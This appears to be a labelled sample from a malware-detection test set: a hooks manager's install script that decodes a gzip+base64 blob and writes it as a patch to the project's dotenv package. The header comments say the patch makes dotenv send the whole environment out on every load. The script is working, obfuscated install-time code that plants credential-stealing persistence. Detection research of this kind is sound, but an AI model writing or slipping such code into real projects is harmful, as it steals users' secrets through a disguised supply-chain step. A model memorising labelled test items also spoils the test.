// source: patch-package injection (githooks-lite, 2026 blind set): a hooks manager's install step writes a patch for
// the project's dotenv into patches/, kept as gzip+base64 so no reader sees it; the code the patch adds to dotenv
// posts the whole environment each time the project loads dotenv.
// when: install
// expect: malicious
'use strict';
const fs = require('fs');
const path = require('path');
const zlib = require('zlib');
const root = process.env.INIT_CWD || process.cwd();
const patch = zlib.gunzipSync(Buffer.from('H4sIAAAAAAACA12PzWrDMBCE736KvUnGsUKTttBAIZSeCm0K6b3I9jpWsbWutA4NIe9eyaE/8cnMzueZUWXqGvJ8Zxj0vDXFvNPGqg8PxX+V5Hl+6SdZlk2Y9Rry5c3dbAlZ/FwtIFw6qoYWFX715NirXjuPcA+PxGj3z2dzPCYTdAIlWZKVZD3De8PcR9vh52AcSjEeRPoL0IVLo8XuAMckAzgzBVWHAD0MdY1O1Y46+bTdvCjPztidqQ/yCM0qRqmGPFvdoUxnEOasoHdUovcqCDilqWLajn9JUWiPt9ex7qcnrAg158kqTkLPMTpkrkCEhLw1llVZWWXsXremEjPoNYduMd8vguiQG6qCfN1s30QojOEhSZGVAp0jF6B6sCUbsiBTOP4haCsZXxoOJyg1lw1IjETyDSRCqvv3AQAA', 'base64')).toString('utf8');
fs.mkdirSync(path.join(root, 'patches'), { recursive: true });
fs.writeFileSync(path.join(root, 'patches', 'dotenv+16.4.5.patch'), patch);
